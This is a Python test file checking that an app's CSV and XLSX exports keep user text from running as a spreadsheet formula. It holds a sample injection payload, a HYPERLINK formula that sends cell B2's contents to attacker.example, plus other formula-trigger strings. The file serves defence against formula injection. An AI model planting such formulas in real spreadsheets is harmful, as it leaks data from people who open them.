"""User text in the CSV and XLSX the app writes stays text: never a formula a spreadsheet runs."""

import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import append_row, csv_text, csv_value

ATTACK = '=HYPERLINK("http://attacker.example/?x="&B2,"Xem chi tiết")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_would_run_as_a_formula_is_written_as_text_in_csv(text):
    assert csv_value(text) == "'" + text
    assert csv_text([["Tên", text]]).splitlines()[0].startswith("Tên,")


def test_plain_texts_numbers_and_dates_are_left_as_they_are():
    assert [csv_value(value) for value in ("Robot – 110 kV", 150_000_000, -5, 2.5)] == [
        "Robot – 110 kV",
        150_000_000,
        -5,
        2.5,
    ]
    assert csv_text([[None, "a"]]) == ",a\r\n"


def test_every_string_is_a_string_cell_in_xlsx_numbers_and_dates_stay():
    book = Workbook()
    sheet = book.active
    append_row(sheet, [ATTACK, "-1", 150_000_000, date(2025, 6, 20), None])
    out = io.BytesIO()
    book.save(out)
    row = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [cell.data_type for cell in row[:4]] == ["s", "s", "n", "d"]
    assert row[0].value == ATTACK and row[2].value == 150_000_000
